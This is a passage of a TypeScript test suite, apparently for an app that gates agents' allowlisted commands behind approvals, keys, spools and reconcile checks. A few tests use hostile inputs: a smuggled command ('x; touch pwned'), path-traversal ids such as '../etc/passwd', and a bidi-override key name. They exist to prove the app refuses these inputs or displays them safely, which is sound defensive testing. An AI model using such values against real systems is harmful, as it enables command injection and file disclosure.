    expect(await api.allowlist.save({ text: a.text, baseHash: c.hash })).toMatchObject({ saved: true });
    expect(asked.map((q) => q.detail)).toEqual([expect.stringContaining('+ slow (new):')]);
  });

  it('settings.set refuses to change the spools, to any folder, pointing to Settings > Spools', async () => {
    const before = readFileSync(path.join(host.home, 'settings.json'), 'utf8');
    for (const value of ['/', os.homedir(), '../..', path.join(host.root, 'elsewhere')]) {
      await expect(api.settings.set({ name: 'spool', value })).rejects.toThrow('spools are not changed like other settings');
      await expect(api.settings.set({ name: 'spools', value: [{ name: 'x', dir: value }] })).rejects.toThrow('Settings > Spools');
    }
    expect(readFileSync(path.join(host.home, 'settings.json'), 'utf8')).toBe(before);
    expect(existsSync(path.join(host.root, 'elsewhere'))).toBe(false);
  });

  it('spools.add refuses the file system root, the home, a relative path, another spool\'s folder and a bad name, asks nothing and touches nothing there', async () => {
    const asked = ask();
    const userDir = path.join(host.root, 'user-files');
    mkdirSync(path.join(userDir, 'bin'), { recursive: true, mode: 0o700 });
    writeFileSync(path.join(userDir, 'bin', 'dw.cjs'), 'the user\'s own script');
    writeFileSync(path.join(userDir, 'notes.txt'), 'keep me');
    const listing = (dir: string) => readdirSync(dir, { recursive: true }).map(String).sort();
    const userBefore = listing(userDir);
    const home = os.homedir();
    for (const [target, why] of [
      ['/', 'the root of the file system'],
      [home, 'your home folder'],
      ...(path.dirname(home) === '/' ? [] : [[path.dirname(home), 'a folder holding your home folder'] as const]),
      ['../..', 'a folder must be an absolute path'],
      [path.join(host.spool, 'inner'), 'overlaps the folder of spool "default"'],
      [path.join(host.home, 'inside'), 'must not contain each other'],
    ] as const) {
      await expect(api.spools.add({ name: 'extra', dir: target }), target).rejects.toThrow(why);
    }
    for (const name of ['Work', '-x', 'a'.repeat(33), '../x', '']) {
      await expect(api.spools.add({ name, dir: path.join(host.root, 'named') }), name).rejects.toThrow('invalid arguments for spools.add');
    }
    await expect(api.requests.list({ spool: '../x' })).rejects.toThrow('invalid arguments for requests.list');
    await expect(api.audit.search({ spool: 'A' })).rejects.toThrow('invalid arguments for audit.search');
    await expect(api.keys.create({ name: 'k', scope: 'read', spool: 'no such' })).rejects.toThrow('invalid arguments for keys.create');
    await expect(api.keys.create({ name: 'k', scope: 'read', spool: 'nope' })).rejects.toThrow('there is no spool named "nope"');
    expect(existsSync(path.join(host.root, 'named'))).toBe(false);
    expect(asked).toEqual([]);
    expect(listing(userDir)).toEqual(userBefore);
    expect(readFileSync(path.join(userDir, 'bin', 'dw.cjs'), 'utf8')).toBe('the user\'s own script');
    expect(existsSync(path.join(home, 'queue'))).toBe(false);
    expect((await api.settings.get()).spools).toEqual([{ name: 'default', dir: host.spool }]);
    expect((await host.sentinel(alice)).state).toBe('succeeded');
  });

  it('spools.add asks before it looks at the disk: refused by the person, an existing folder, a file, a folder of user files and a missing path get the same answer', async () => {
    const asked = ask();
    const userDir = path.join(host.root, 'their-files');
    mkdirSync(userDir, { recursive: true });
    writeFileSync(path.join(userDir, 'notes.txt'), 'keep me');
    const emptyDir = path.join(host.root, 'empty-dir');
    mkdirSync(emptyDir, { recursive: true });
    const noParent = path.join(host.root, 'no-such-parent', 'spool');
    const targets = [userDir, emptyDir, path.join(userDir, 'notes.txt'), '/etc/passwd', path.join(host.root, 'no-such-folder'), noParent];
    person.answer = false;
    for (const dir of targets) expect(await api.spools.add({ name: 'probe', dir }), dir).toBeNull();
    person.answer = true;
    expect(asked.map((q) => q.message)).toEqual(targets.map((dir) => `Share ${dir} with one sandbox as spool probe?`));
    expect(new Set(asked.map((q) => q.detail)).size).toBe(1);
    keepQuestion('spools-add', asked[0]!);
    // Said yes, what is on the disk decides, and the person (who asked for that folder) learns why.
    await expect(api.spools.add({ name: 'probe', dir: userDir })).rejects.toThrow('it holds files Dumbwaiter did not create');
    expect(readdirSync(userDir)).toEqual(['notes.txt']);
    expect(existsSync(path.join(host.root, 'no-such-folder'))).toBe(false);
    // The app makes the folder chosen, never the folders above it (its native dialog picks one that exists).
    await expect(api.spools.add({ name: 'probe', dir: noParent })).rejects.toThrow(`${path.dirname(noParent)} does not exist: check the path`);
    expect(existsSync(path.dirname(noParent))).toBe(false);
    expect((await api.settings.get()).spools).toEqual([{ name: 'default', dir: host.spool }]);
  });

  it('spools.add of a spool another home serves: refused once asked, naming that home, and nothing of it changes', async () => {
    const other = new TestHost('version: 1\noperations: []\n');
    try {
      const before = readdirSync(other.spool).sort();
      const marker = readFileSync(path.join(other.spool, '.dumbwaiter-spool'), 'utf8');
      await expect(api.spools.add({ name: 'theirs', dir: other.spool })).rejects.toThrow(`served by another Dumbwaiter home: ${other.home}`);
      expect(readdirSync(other.spool).sort()).toEqual(before);
      expect(readFileSync(path.join(other.spool, '.dumbwaiter-spool'), 'utf8')).toBe(marker);
      expect((await api.settings.get()).spools).toEqual([{ name: 'default', dir: host.spool }]);
    } finally {
      await other.cleanup();
    }
  });

  it('keys.rotate says the new key keeps the old one\'s spend and its ceilings, with the spend so far against each', async () => {
    const asked = ask();
    const ceilings = [
      { name: 'bob-only', per: 'key' as const, key_id: bob.key_id, window_s: 3600, max_runs: 100, action: 'reject' as const },
      { name: 'each-key', per: 'key' as const, window_s: 86400, max_cost: 50, action: 'ask' as const },
      { name: 'alice-only', per: 'key' as const, key_id: alice.key_id, window_s: 3600, max_runs: 5 },
    ];
    await api.settings.set({ name: 'ceilings', value: ceilings });
    person.answer = false;
    expect(await api.keys.rotate({ keyId: bob.key_id })).toBeNull();
    keepQuestion('keys-rotate', asked[0]!);
    expect(asked[0]!.message).toBe(`Replace key ${bob.key_id} ("bob") with a new one?`);
    const runs = svc.keys.list().find((k) => k.key_id === bob.key_id)!.requests;
    expect(runs).toBeGreaterThan(0);
    expect(asked[0]!.detail).toContain("It keeps the old key's spend so far and its spend ceilings (those pinned to the old key id are pinned to the new one):");
    expect(asked[0]!.detail).toContain('  bob-only (this key, per 3600 s, reject): ');
    expect(asked[0]!.detail).toMatch(/ {2}bob-only \(this key, per 3600 s, reject\): [1-9]\d* of 100 runs used\n {2}each-key \(each key, per 86400 s, ask\): 0 of 50 cost units used$/);
    expect(asked[0]!.detail).not.toContain('alice-only');
    person.answer = true;
    expect(svc.keys.list().find((k) => k.key_id === bob.key_id)!.revoked_at).toBeNull();
    await api.settings.set({ name: 'ceilings', value: [] });
  });

  it('settings that let more run, or with less oversight or trace, ask natively; the other direction does not', async () => {
    const asked = ask();
    const s0 = await api.settings.get();
    const loosening: [string, unknown][] = [
      ['approval_timeout_s', s0.approval_timeout_s * 4],
      ['max_request_age_s', s0.max_request_age_s * 2],
      ['retention_ledger_days', 30],
      ['retention_spool_days', s0.retention_spool_days * 10],
      ['notifications', false],
      ['kill_grace_s', s0.kill_grace_s + 60],
      ['shutdown_grace_s', s0.shutdown_grace_s + 60],
      ['max_concurrent_runs', s0.max_concurrent_runs + 4],
      ['runs_on_stop', 'leave'],
    ];
    person.answer = false;
    for (const [name, value] of loosening) await expect(api.settings.set({ name, value }), name).rejects.toThrow('Not changed: cancelled.');
    person.answer = true;
    expect(await api.settings.get()).toEqual(s0);
    expect(asked.map((q) => q.message)).toEqual(loosening.map(([name]) => `Change ${name}?`));
    expect(asked[0]!.detail).toBe(`approval_timeout_s: ${s0.approval_timeout_s * 4} (now ${s0.approval_timeout_s})\n\nA request waits longer for approval before it is denied: it can be approved long after it was made.`);
    keepQuestion('settings-approval-timeout', asked[0]!);
    keepQuestion('settings-notifications-off', asked[4]!);
    keepQuestion('settings-ledger-retention', asked[2]!);
    // Tightening asks nothing (and is done), as does putting each back.
    asked.length = 0;
    const tightening: [string, unknown][] = [
      ['approval_timeout_s', 600],
      ['max_request_age_s', 3600],
      ['retention_ledger_days', 365],
      ['retention_spool_days', 1],
      ['kill_grace_s', 1],
      ['shutdown_grace_s', 1],
      ['max_concurrent_runs', 1],
      ['rescan_interval_ms', 500],
    ];
    for (const [name, value] of tightening) expect((await api.settings.set({ name, value }))[name as keyof typeof s0], name).toEqual(value);
    expect(asked).toEqual([]);
    for (const [name] of tightening) await api.settings.set({ name, value: s0[name as keyof typeof s0] });
    expect(await api.settings.get()).toEqual(s0);
  });

  it("spools.add refuses a folder inside an operation's root (that operation's sandboxes would read its results), naming the operation, once the person said yes (links there are the disk's)", async () => {
    const asked = ask();
    const proj = path.join(host.root, 'proj');
    mkdirSync(proj, { recursive: true });
    host.writeAllowlist(`${ALLOWLIST}  - name: read-file\n    command: [cat, "{file}"]\n    args:\n      file: {type: path, within: [${JSON.stringify(proj)}]}\n`);
    try {
      await expect(api.spools.add({ name: 'extra', dir: path.join(proj, 'extra') })).rejects.toThrow(/allowlist's operation "read-file"[^]*contains the spool "extra"/);
    } finally {
      host.writeAllowlist(ALLOWLIST);
    }
    expect(asked.map((q) => q.title)).toEqual(['Add a spool']);
    expect(existsSync(path.join(proj, 'extra'))).toBe(false);
    expect((await api.settings.get()).spools).toEqual([{ name: 'default', dir: host.spool }]);
    expect((await host.sentinel(alice)).state).toBe('succeeded');
  });

  it('keys.create and keys.rotate ask natively; refused, no key is made and none revoked', async () => {
    const asked = ask();
    person.answer = false;
    const keysBefore = svc.keys.list();
    expect(await api.keys.create({ name: 'page-made', scope: 'write' })).toBeNull();
    expect(await api.keys.rotate({ keyId: alice.key_id })).toBeNull();
    person.answer = true;
    expect(asked.map((q) => q.message)).toEqual(['Create a write key "page-made" for spool default?', `Replace key ${alice.key_id} ("alice") with a new one?`]);
    // Each says what it decides: what the key may call, through which spool.
    expect(asked[0]!.detail).toBe(`Whoever holds its key file may call every operation of scope read or write (those that ask for approval still ask), through the spool at ${host.spool} only.`);
    expect(asked[1]!.detail).toContain(`The new key is a read key for spool default. Whoever holds its key file may call every operation of scope read (those that ask for approval still ask), through the spool at ${host.spool} only.`);
    keepQuestion('keys-create', asked[0]!);
    expect(svc.keys.list()).toEqual(keysBefore);
    expect((await host.sentinel(alice)).state).toBe('succeeded'); // alice still works
  });

  it('approvals.approve for a while (a grant) asks natively, showing the command; a plain approval does not', async () => {
    const asked = ask();
    person.answer = false;
    await expect(api.approvals.approve({ id: 'r06', forSeconds: 3600 })).rejects.toThrow('Not approved: cancelled.');
    person.answer = true;
    expect(asked).toEqual([
      expect.objectContaining({
        message: `Approve this call of guarded, and let key "alice" (${alice.key_id}) call guarded without asking for 1 h, with the arguments below?`,
        detail: expect.stringContaining('program: "true"\n'),
      }),
    ]);
    expect(svc.requests.get('r06')?.state).toBe('awaiting_approval');
    expect(svc.verdicts.grants(true)).toEqual([]);
  });

  it('removing or changing a spend ceiling asks natively; adding one does not', async () => {
    const asked = ask();
    const ceiling = { name: 'page-test', window_s: 3600, max_runs: 10_000 };
    expect((await api.settings.set({ name: 'ceilings', value: [ceiling] })).ceilings).toHaveLength(1);
    expect(asked).toEqual([]);
    person.answer = false;
    await expect(api.settings.set({ name: 'ceilings', value: [] })).rejects.toThrow('Not changed: cancelled.');
    await expect(api.settings.set({ name: 'ceilings', value: [{ ...ceiling, max_runs: 1_000_000 }] })).rejects.toThrow('Not changed: cancelled.');
    person.answer = true;
    expect(asked.map((q) => q.detail.split('\n')[0])).toEqual(['page-test (removed)', 'page-test (changed)']);
    expect(svc.settings.get().ceilings).toHaveLength(1);
    expect((await api.settings.set({ name: 'ceilings', value: [] })).ceilings).toEqual([]);
  });

  it('with no desktop edge to ask (headless, or a wiring bug), every such call is refused and nothing happens', async () => {
    const bare = connect(svc, null);
    const text = (await bare.allowlist.read()).text;
    const hash = (await bare.allowlist.read()).hash;
    const refused = 'refused: this needs a confirmation in a dialog of the desktop app';
    await expect(bare.allowlist.save({ text: text + SHELL_OP, baseHash: hash })).rejects.toThrow(refused);
    await expect(bare.allowlist.dryRun({ text: text + SHELL_OP, op: 'shell', args: { cmd: `touch ${path.join(host.root, 'headless-ran')}` } })).rejects.toThrow(refused);
    await expect(bare.keys.create({ name: 'headless', scope: 'write' })).rejects.toThrow(refused);
    await expect(bare.keys.rotate({ keyId: alice.key_id })).rejects.toThrow(refused);
    await expect(bare.approvals.approve({ id: 'r06', forSeconds: 60 })).rejects.toThrow(refused);
    await expect(bare.spools.add({ name: 'headless', dir: path.join(host.root, 'headless-spool') })).rejects.toThrow(refused);
    svc.spools.add('spare', path.join(host.root, 'spare-spool'), 'test'); // one that could be removed
    await expect(bare.spools.remove({ name: 'spare' })).rejects.toThrow(refused);
    expect(svc.spools.list().map((s) => s.name)).toContain('spare');
    svc.spools.remove('spare', 'test');
    await expect(bare.settings.set({ name: 'ceilings', value: [] })).resolves.toMatchObject({ ceilings: [] }); // nothing loosened: no question
    expect(readFileSync(path.join(host.home, 'allowlist.yaml'), 'utf8')).toBe(text);
    expect(existsSync(path.join(host.root, 'headless-ran'))).toBe(false);
    expect(existsSync(path.join(host.root, 'headless-spool'))).toBe(false);
    expect(svc.keys.list().some((k) => k.name === 'headless')).toBe(false);
    expect(svc.verdicts.grants(true)).toEqual([]);
    // Calls that change nothing of the kind still work, and the daemon answers.
    expect((await bare.status.get()).allowlist.ok).toBe(true);
    expect((await host.sentinel(alice)).state).toBe('succeeded');
  });
});

describe('reconcile checks, orphaned runs and plans', () => {
  // A host of their own, whose daemon is killed with SIGKILL where a test needs an interrupted or
  // orphaned run, and whose requests stay out of the lists above.
  let crashHost: TestHost;
  let crashSvc: Host;
  let crashApi: DumbwaiterApi;
  let agent: KeyFile;
  let daemon: DaemonProcess;

  /** Files the operations below make or look for, under the test's root. */
  const file = (name: string) => path.join(crashHost.root, name);

  const allowlist = () => `version: 1
operations:
  - name: release
    command: [/bin/sh, -c, ': > "$0"', "${file('released-')}{version}"]
    cwd: ${JSON.stringify(crashHost.work)}
    args:
      version: {type: string, pattern: "[0-9.]+"}
    reconcile:
      command: [/bin/sh, -c, 'echo "looking up $1 for $2"; test -e "$0"', "${file('released-')}{version}", "{version}", "{request_id}"]
      timeout_s: 5
    scope: write
    approval: never
  - name: touchy
    command: [/bin/echo, "{tag}"]
    cwd: ${JSON.stringify(crashHost.work)}
    args:
      tag: {type: string, pattern: "[a-z]+"}
    reconcile:
      command: [/bin/sh, -c, ': > "$0"', "${file('reconciled-')}{tag}-{request_id}"]
    scope: read
    approval: never
  - name: cannot-tell
    command: ["true"]
    reconcile:
      command: [/bin/sh, -c, "echo the registry is down >&2; exit 3"]
    scope: read
    approval: never
  - name: plain
    command: ["true"]
    scope: read
    approval: never
  - name: stamp
    description: Asks each time; its environment holds a token the app has no need to see
    command: [/bin/echo, "stamped {what}"]
    env: {STAMP_TOKEN: "not-for-the-page"}
    args:
      what: {type: string, pattern: "[a-z]+"}
    scope: write
    approval: always
  - name: interrupted
    description: Runs until killed; its reconcile check says it took effect once its done file exists
    command: [/bin/sh, -c, "sleep 60"]
    reconcile:
      command: [/bin/sh, -c, 'echo "checked $1"; test -e "$0" && exit 0; exit 3', "${file('done-')}{request_id}", "{request_id}"]
    scope: read
    approval: never
    concurrency: 4
`;

  beforeAll(async () => {
    crashHost = new TestHost('version: 1\noperations: []\n');
    crashHost.writeAllowlist(allowlist());
    crashSvc = new Host(crashHost.home, crashHost.spool);
    crashApi = connect(crashSvc, PERSON);
    agent = crashHost.createKey('agent', 'write');
    daemon = await crashHost.startDaemon();
  }, 60_000);

  afterAll(async () => {
    crashSvc?.close();
    await crashHost?.cleanup();
  });

  const ask = () => {
    person.asked.length = 0;
    return person.asked;
  };
  const dryRuns = () => crashSvc.audit.search({ kind: 'dry_run', limit: 1000 });

  describe('allowlist.dryRunReconcile', () => {
    it('runs the reconcile command for the stand-in request id and says what its answer would mean', async () => {
      const text = allowlist();
      writeFileSync(file('released-1.2'), '');
      const applied = await crashApi.allowlist.dryRunReconcile({ text, op: 'release', args: { version: '1.2' } });
      expect(applied).toMatchObject({ ok: true, verdict: 'applied', exit_code: 0, stdout: 'looking up 1.2 for dry-run\n', error: null });
      expect(applied.ok && applied.plan.argv).toEqual(['/bin/sh', '-c', 'echo "looking up $1 for $2"; test -e "$0"', file('released-1.2'), '1.2', 'dry-run']);
      expect(applied.ok && applied.plan.cwd).toBe(crashHost.work);
      expect(applied.ok && applied.plan.timeout_s).toBe(5);
      const notApplied = await crashApi.allowlist.dryRunReconcile({ text, op: 'release', args: { version: '9.9' } });
      expect(notApplied).toMatchObject({ ok: true, verdict: 'not_applied', exit_code: 1 });
      const unknown = await crashApi.allowlist.dryRunReconcile({ text, op: 'cannot-tell', args: {} });
      expect(unknown).toMatchObject({ ok: true, verdict: 'unknown', exit_code: 3, stderr: 'the registry is down\n' });
      // Only the look-up ran: the operation itself never did (it would have made released-9.9).
      expect(existsSync(file('released-9.9'))).toBe(false);
      expect(dryRuns()[0]).toMatchObject({ actor: 'app', op: 'cannot-tell', message: expect.stringContaining('reconcile') });
    });

    it('asks natively first, showing the exact command, folder and stand-in id; refused, nothing runs and nothing is recorded', async () => {
      const asked = ask();
      const before = dryRuns().length;
      person.answer = false;
      const refused = await crashApi.allowlist.dryRunReconcile({ text: allowlist(), op: 'touchy', args: { tag: 'asked' } });
      person.answer = true;
      expect(refused).toEqual({ ok: false, message: 'Not run: cancelled.', cancelled: true });
      expect(asked).toHaveLength(1);
      expect(asked[0]!.message).toBe('Run the reconcile command of touchy now, on this computer?');
      expect(asked[0]!.detail).toContain(`argument 3: "${file('reconciled-')}asked-dry-run"`);
      expect(asked[0]!.detail).toContain(`in folder: "${crashHost.work}"`);
      expect(asked[0]!.detail).toContain('stand-in request id "dry-run"');
      expect(existsSync(file('reconciled-asked-dry-run'))).toBe(false);
      expect(dryRuns().length).toBe(before);
      // Said yes, it runs (so the check above could have seen the file).
      expect(await crashApi.allowlist.dryRunReconcile({ text: allowlist(), op: 'touchy', args: { tag: 'asked' } })).toMatchObject({ ok: true, verdict: 'applied' });
      expect(existsSync(file('reconciled-asked-dry-run'))).toBe(true);
    });

    it('refuses bad arguments, an operation without a reconcile command and invalid text without asking or running anything', async () => {
      const asked = ask();
      const text = allowlist();
      const before = dryRuns().length;
      expect(await crashApi.allowlist.dryRunReconcile({ text, op: 'touchy', args: { tag: 'x; touch pwned' } })).toMatchObject({
        ok: false,
        message: expect.stringContaining('argument "tag" does not match the pattern'),
      });
      expect(await crashApi.allowlist.dryRunReconcile({ text, op: 'plain', args: {} })).toMatchObject({ ok: false, message: expect.stringContaining('declares no reconcile command') });
      expect(await crashApi.allowlist.dryRunReconcile({ text, op: 'nope', args: {} })).toMatchObject({ ok: false, message: expect.stringContaining('no operation "nope"') });
      expect(await crashApi.allowlist.dryRunReconcile({ text: `${text}  - name: broken\n`, op: 'touchy', args: { tag: 'a' } })).toMatchObject({
        ok: false,
        message: expect.stringContaining('the allowlist is not valid yet'),
      });
      await expect(crashApi.allowlist.dryRunReconcile({ text, op: '../touchy', args: {} })).rejects.toThrow('invalid arguments for allowlist.dryRunReconcile');
      expect(asked).toEqual([]);
      expect(dryRuns().length).toBe(before);
      expect(readdirSync(crashHost.root).filter((n) => n.includes('pwned'))).toEqual([]);
    });

    it('with no desktop edge to ask, is refused and runs nothing', async () => {
      const bare = connect(crashSvc, null);
      await expect(bare.allowlist.dryRunReconcile({ text: allowlist(), op: 'touchy', args: { tag: 'headless' } })).rejects.toThrow('refused: this needs a confirmation');
      expect(existsSync(file('reconciled-headless-dry-run'))).toBe(false);
      expect((await crashHost.sentinel(agent)).state).toBe('succeeded');
    });
  });

  describe('requests.checkReconcile and the views of interrupted runs', () => {
    it('an uncertain run shows its last check in the status and the request; Check again settles it when the look-up now says it took effect', async () => {
      crashHost.submit(agent, 'cut-1', 'interrupted', {});
      await crashHost.waitResult('cut-1', ['running']);
      const pid = await crashHost.runPid('cut-1');
      await daemon.kill9();
      process.kill(-pid, 'SIGKILL'); // gone when the host comes back: interrupted, not orphaned
      await eventually('the run to end', () => (groupRunning(pid) ? undefined : true));
      daemon = await crashHost.startDaemon();
      // The host looked the effect up at its start, and could not tell (no done file yet).
      const attempt = await eventually('the check at the restart', () => crashHost.result('cut-1')?.reconcile);
      expect(attempt).toMatchObject({ verdict: 'unknown', exit_code: 3, stdout: 'checked cut-1\n' });
      expect(crashHost.result('cut-1')?.state).toBe('uncertain');

      const status = await crashApi.status.get();
      expect(status.uncertain.find((u) => u.id === 'cut-1')).toMatchObject({ reconcilable: true, reconcile: { verdict: 'unknown', exit_code: 3 } });
      const view = await crashApi.requests.get({ id: 'cut-1' });
      expect(view).toMatchObject({ state: 'uncertain', orphaned: false, resolved_by: null, reconcile: { verdict: 'unknown', argv: expect.arrayContaining(['cut-1']) } });

      // Still cannot tell: it stays uncertain, with the new attempt, by the app. A second check asked
      // while one runs is refused, not run alongside it.
      const checks = crashHost.audit('cut-1', 'reconcile').length;
      const [first, second] = await Promise.allSettled([crashApi.requests.checkReconcile({ id: 'cut-1' }), crashApi.requests.checkReconcile({ id: 'cut-1' })]);
      expect(first).toMatchObject({ status: 'fulfilled', value: { state: 'uncertain', reconcile: { verdict: 'unknown', by: 'app' } } });
      expect(second).toMatchObject({ status: 'rejected', reason: { message: expect.stringContaining('a reconcile check of cut-1 is already running') } });
      expect(crashHost.audit('cut-1', 'reconcile').length).toBe(checks + 1);
      writeFileSync(file('done-cut-1'), '');
      const checked = await crashApi.requests.checkReconcile({ id: 'cut-1' });
      expect(checked).toMatchObject({ state: 'succeeded', reconcile: { verdict: 'applied', exit_code: 0, by: 'app' } });
      expect(await crashApi.requests.get({ id: 'cut-1' })).toMatchObject({ state: 'succeeded', resolved_by: 'reconcile', reconcile: { verdict: 'applied' } });
      const result = await crashHost.waitResult('cut-1', ['succeeded']);
      expect(result.resolved_by).toBe('reconcile');
      expect((await crashApi.status.get()).uncertain.some((u) => u.id === 'cut-1')).toBe(false);
      // Never re-run: one start only.
      expect(crashHost.audit('cut-1', 'started')).toHaveLength(1);
    });

    it('refuses to check a request that is not uncertain, and an id outside the schema', async () => {
      const done = await crashHost.sentinel(agent, 'plain', {});
      expect(done.state).toBe('succeeded');
      await expect(crashApi.requests.checkReconcile({ id: done.id })).rejects.toThrow(/uncertain/);
      expect((await crashApi.requests.get({ id: done.id }))?.reconcile).toBeNull();
      await expect(crashApi.requests.checkReconcile({ id: '../etc/passwd' })).rejects.toThrow('invalid arguments for requests.checkReconcile');
    });

    it('a run that outlived the host is orphaned in the status and the request, and cancel kills it', async () => {
      crashHost.submit(agent, 'orphan-1', 'interrupted', {});
      await crashHost.waitResult('orphan-1', ['running']);
      const pid = await crashHost.runPid('orphan-1');
      await daemon.kill9();
      daemon = await crashHost.startDaemon();
      await eventually('the run to be watched as orphaned', () => (crashSvc.requests.get('orphan-1')?.orphaned === 1 ? true : undefined));
      expect((await crashApi.status.get()).running.find((x) => x.id === 'orphan-1')).toMatchObject({ orphaned: true });
      expect(await crashApi.requests.get({ id: 'orphan-1' })).toMatchObject({ state: 'running', orphaned: true });
      expect(groupRunning(pid)).toBe(true);

      const out = await crashApi.requests.cancel({ id: 'orphan-1' });
      expect(out.changed).toBe(true);
      expect((await crashHost.waitResult('orphan-1', ['cancelled'])).state).toBe('cancelled');
      await eventually('the orphan to be killed', () => (groupRunning(pid) ? undefined : true));
      expect((await crashApi.requests.get({ id: 'orphan-1' }))?.orphaned).toBe(false);
      expect((await crashHost.sentinel(agent)).state).toBe('succeeded');
    });
  });

  describe('a plan over the channels', () => {
    it('its approval card and request view list every step as it runs, never its environment; a step request names its plan, and the plan the request that used the step', async () => {
      const steps = [
        { op: 'stamp', args: { what: 'one' } },
        { op: 'stamp', args: { what: 'two' } },
      ];
      crashHost.submit(agent, 'plan-a', 'dumbwaiter.plan', { steps }, { intent: 'Stamp twice', expiresAt: new Date(Date.now() + 3600_000).toISOString() });
      await crashHost.waitResult('plan-a', ['awaiting_approval']);
      const pending = (await crashApi.approvals.list()).find((p) => p.id === 'plan-a');
      expect(pending?.approval).toMatchObject({ operation: 'dumbwaiter.plan', argv: [], cwd: '' });
      expect(pending?.approval.steps?.map((s) => [s.op, s.argv, s.scope, s.request_id])).toEqual([
        ['stamp', ['/bin/echo', 'stamped one'], 'write', null],
        ['stamp', ['/bin/echo', 'stamped two'], 'write', null],
      ]);
      expect((await crashApi.approvals.approve({ id: 'plan-a' })).state).toBe('succeeded');

      crashHost.submit(agent, 'plan-a-1', 'stamp', { what: 'one' }, { extra: { plan_id: 'plan-a' } });
      expect((await crashHost.waitResult('plan-a-1')).stdout).toBe('stamped one\n');
      const step = await crashApi.requests.get({ id: 'plan-a-1' });
      expect(step).toMatchObject({ plan_id: 'plan-a', decided_by: 'plan plan-a', steps: null });
      const plan = await crashApi.requests.get({ id: 'plan-a' });
      expect(plan).toMatchObject({ state: 'succeeded', plan_id: null, expires_at: expect.any(String) });
      expect(plan?.steps?.map((s) => [s.op, s.argv[1], s.request_id, s.state])).toEqual([
        ['stamp', 'stamped one', 'plan-a-1', 'succeeded'],
        ['stamp', 'stamped two', null, null],
      ]);
      // What the page gets of the plan holds no step's environment.
      expect(JSON.stringify([plan, await crashApi.approvals.list(), await crashApi.status.get()])).not.toContain('not-for-the-page');
    });
  });
});

describe('approvals.approve for a while: the native question', () => {
  const GRANTABLE = (work: string) => `version: 1
operations:
  - name: remove
    command: [/usr/bin/env, "TAG={tag}", /bin/rm, -f, --, "{path}"]
    cwd: ${JSON.stringify(work)}
    env: {LC_ALL: C, NOTE: "left \\u202eright"}
    args:
      path: {type: path, within: [${JSON.stringify(work)}], must_exist: false}
      tag: {type: string, default: v1}
    scope: write
`;
  let own: TestHost;
  let ownSvc: Host;
  let agent: KeyFile;
  const ask = () => {
    person.asked.length = 0;
    return person.asked;
  };

  beforeAll(async () => {
    own = new TestHost('version: 1\noperations: []\n');
    own.writeAllowlist(GRANTABLE(own.work));
    agent = own.createKey('agent \u202eevil', 'write');
    await own.startDaemon();
    ownSvc = new Host(own.home, own.spool);
  }, 60_000);
  afterAll(async () => {
    ownSvc?.close();
    await own?.cleanup();
  });

  it('shows each argv element apart, the folder, the environment, what each argument of later calls may be, and how long; and the grant is what it said', async () => {
    const scratch = path.join(own.work, 'scratch.txt');
    own.submit(agent, 'q-1', 'remove', { path: 'scratch.txt' });
    await own.waitResult('q-1', ['awaiting_approval']);
    const ownApi = connect(ownSvc);
    const asked = ask();
    person.answer = false;
    await expect(ownApi.approvals.approve({ id: 'q-1', forSeconds: 1800, widen: { tag: { match: '^v[0-9]+$' } } })).rejects.toThrow('Not approved: cancelled.');
    person.answer = true;
    expect(ownSvc.verdicts.grants(true)).toEqual([]);
    expect(asked).toHaveLength(1);
    const q = asked[0]!;
    expect(q.title).toBe('Approve for a while');
    expect(q.message).toBe(`Approve this call of remove, and let key "agent \\u202eevil" (${agent.key_id}) call remove without asking for 30 min, with the arguments below?`);
    const lines = q.detail.split('\n');
    // Each element of the command on its own line, quoted: where one ends and the next begins is seen.
    expect(lines.slice(0, 8)).toEqual([
      'Runs now:',
      'program: "/usr/bin/env"',
      'argument 1: "TAG=v1"',
      'argument 2: "/bin/rm"',
      'argument 3: "-f"',
      'argument 4: "--"',
      `argument 5: ${JSON.stringify(scratch)}`,
      `in folder: ${JSON.stringify(own.work)}`,
    ]);
    expect(lines).toContain('    LC_ALL="C"');
    expect(lines).toContain('    NOTE="left \\u202eright"'); // the bidi override shown, not obeyed
    // The path as it runs (resolved), the default filled in: what later calls are compared on.
    expect(lines).toContain(`  path: ${JSON.stringify(scratch)} (this value only)`);
    expect(lines).toContain('  tag: matching /^v[0-9]+$/ (the whole value; of a list, each element)');
    expect(lines).toContain('and they have no other argument.');
    mkdirSync(path.join('test', 'artifacts', 'questions'), { recursive: true });
    writeFileSync(path.join('test', 'artifacts', 'questions', 'approve-for-a-while.txt'), `${q.title}\n\n${q.message}\n\n${q.detail}\n`);

    const r = await ownApi.approvals.approve({ id: 'q-1', forSeconds: 1800, widen: { tag: { match: '^v[0-9]+$' } } });
    expect(r).toMatchObject({ state: 'queued', also_approved: [] });
    expect(await ownApi.grants.list()).toEqual([expect.objectContaining({ id: r.grant_id, op: 'remove', args: { path: { equals: scratch }, tag: { match: '^v[0-9]+$' } } })]);
  });

  it('refuses, before any question, a widen of an argument the request lacks, a bad pattern, and a widen without a time box', async () => {
    own.submit(agent, 'q-2', 'remove', { path: 'other.txt' });
    await own.waitResult('q-2', ['awaiting_approval']);
    const ownApi = connect(ownSvc);
    const asked = ask();
    await expect(ownApi.approvals.approve({ id: 'q-2', forSeconds: 60, widen: { force: { any: true } } })).rejects.toThrow('the request has no argument "force" to widen (its arguments: path, tag)');
    await expect(ownApi.approvals.approve({ id: 'q-2', forSeconds: 60, widen: { tag: { match: '(?!x)' } } })).rejects.toThrow(/not a regular expression in RE2 syntax/);
    await expect(ownApi.approvals.approve({ id: 'q-2', widen: { tag: { any: true } } })).rejects.toThrow(/only a time-boxed approval/);
    expect(asked).toEqual([]);
    expect(ownSvc.requests.get('q-2')?.state).toBe('awaiting_approval');
  });

  it('approves nothing when the card changed while the person was asked (approved elsewhere and back with another run)', async () => {
    own.submit(agent, 'q-3', 'remove', { path: 'third.txt' });
    await own.waitResult('q-3', ['awaiting_approval']);
    expect(own.cli(['pause']).status).toBe(0);
    // While the question is open: approved once from the command line, then the allowlist changes what
    // it runs, so it waits again with a run the question did not show.
    const racing = connect(ownSvc, {
      ...PERSON,
      confirm: async () => {
        ownSvc.verdicts.approve('q-3', 'cli:other');
        own.writeAllowlist(GRANTABLE(own.work).replace('LC_ALL: C', 'LC_ALL: C, EXTRA: "1"'));
        await eventually('the allowlist to be reloaded', () => (own.audit('reloaded', 'allowlist_loaded').length > 0 ? true : undefined));
        expect(own.cli(['resume']).status).toBe(0);
        await eventually('q-3 to wait again', () => (ownSvc.requests.get('q-3')?.state === 'awaiting_approval' ? true : undefined));
        return true;
      },
    });
